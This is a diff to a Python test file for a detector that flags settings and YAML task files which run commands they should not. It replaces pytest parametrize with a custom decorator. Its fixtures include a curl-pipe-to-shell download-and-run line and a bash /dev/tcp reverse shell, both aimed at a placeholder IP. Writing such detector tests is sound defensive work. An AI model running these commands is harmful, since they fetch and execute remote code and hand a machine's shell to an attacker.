@@ -3,11 +3,10 @@
 
 from __future__ import annotations
 
-import pytest
-
 from agents.checks.artifacts.dispatch import scan_source
 from agents.checks.artifacts.scanning import BytesSource
 from schemas.severity import Verdict
+from tests.each import each
 
 FETCH = "curl -s http://203.0.113.9/a | sh"
 HOSTILE = {
@@ -69,18 +68,18 @@ def report(name, text):
     return scan_source(name, BytesSource(text.encode()))
 
 
-@pytest.mark.parametrize(("name", "text"), HOSTILE.items(), ids=HOSTILE)
+@each(("name", "text"), HOSTILE.items())
 def test_settings_that_run_what_they_should_not_are_malicious(name, text):
     assert report(name, text).verdict is Verdict.MALICIOUS
 
 
-@pytest.mark.parametrize(("name", "text"), HARMLESS.items(), ids=HARMLESS)
+@each(("name", "text"), HARMLESS.items())
 def test_ordinary_settings_are_clean(name, text):
     found = report(name, text)
     assert (found.verdict, found.reasons) == (Verdict.CLEAN, ())
 
 
-@pytest.mark.parametrize(("name", "text"), UNKNOWN.items(), ids=UNKNOWN)
+@each(("name", "text"), UNKNOWN.items())
 def test_what_is_not_analysed_is_not_clean(name, text):
     assert report(name, text).verdict is Verdict.UNSUPPORTED
 
@@ -97,7 +96,7 @@ def test_code_that_is_imported_by_its_folder_and_not_there_is_suspicious():
     assert report("train.yaml", "common:\n  user_dir: examples/x\n").verdict is Verdict.SUSPICIOUS
 
 
-@pytest.mark.parametrize("command", [FETCH, "bash -i >& /dev/tcp/203.0.113.9/1 0>&1"])
-@pytest.mark.parametrize("key", ["run", "command", "entrypoint", "commands"])
+@each("command", [FETCH, "bash -i >& /dev/tcp/203.0.113.9/1 0>&1"])
+@each("key", ["run", "command", "entrypoint", "commands"])
 def test_a_command_under_a_key_that_runs_it_is_malicious_in_yaml_too(key, command):
     assert report("task.yaml", f"{key}: '{command}'\n").verdict is Verdict.MALICIOUS
